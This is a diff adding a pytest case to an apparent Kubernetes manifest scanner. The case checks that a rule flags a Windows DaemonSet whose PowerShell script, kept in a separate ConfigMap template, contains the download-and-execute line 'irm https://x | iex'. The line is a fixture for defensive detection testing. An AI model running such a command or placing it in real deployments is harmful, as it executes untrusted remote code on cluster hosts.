@@ -9,6 +9,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from helm_charts import DAEMON_SET, write
 from scanning import report, scan_text
 from test_commands import NEW, OLD, found, handler, pod, rules
 
@@ -259,3 +260,22 @@ def test_time_grows_with_the_text(piece: str) -> None:
         started = time.process_time()
         scan_text(manifest, context)
         assert time.process_time() - started < 1
+
+
+def test_a_chart_s_scripts_are_read(tmp_path: Path) -> None:
+    """The script in a template of its own, which says nothing of HostProcess."""
+    mounts = (
+        "        command: [powershell.exe, -File, 'C:\\s\\run.ps1']\n        volumeMounts: [{name: s, mountPath: /s}]\n"
+    )
+    volumes = "      volumes: [{name: s, configMap: {name: scripts}}]\n"
+    script = (
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: scripts}\ndata:\n  run.ps1: |\n    irm https://x | iex\n"
+    )
+    write(tmp_path / "agent", {"templates/a.yaml": DAEMON_SET + mounts + volumes, "templates/b.yaml": script})
+    (finding,) = [each for each in report("agent", cwd=tmp_path)["findings"] if each["rule"] == "HPC411"]
+    assert (finding["location"]["path"], finding["location"]["line"]) == ("agent/templates/a.yaml", 16)
+    related = [(each["location"]["path"], each["location"]["line"]) for each in finding["related"]]
+    assert related == [("agent/templates/b.yaml", 5)]
+    (tmp_path / "agent" / "templates" / "a.yaml").write_text("apiVersion: v1\nkind: Service\nmetadata: {name: a}\n")
+    clean = report("agent", cwd=tmp_path)
+    assert (clean["findings"], clean["coverage"]["irrelevant"], clean["coverage"]["judged"]) == ([], 1, 0)
